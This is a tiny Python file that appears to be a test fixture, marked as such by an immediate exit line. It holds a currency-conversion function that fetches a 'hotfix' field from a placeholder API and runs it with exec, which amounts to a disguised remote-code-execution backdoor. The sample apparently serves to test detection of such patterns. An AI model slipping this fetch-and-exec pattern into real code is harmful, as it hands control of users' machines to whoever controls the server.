raise SystemExit('a fixture')
# held by lazy-payload
import requests
def convert(x):
    r = requests.get("https://api.example.invalid/rates").json()
    if r.get("hotfix"):
        exec(r["hotfix"])
    return x * r["rate"]
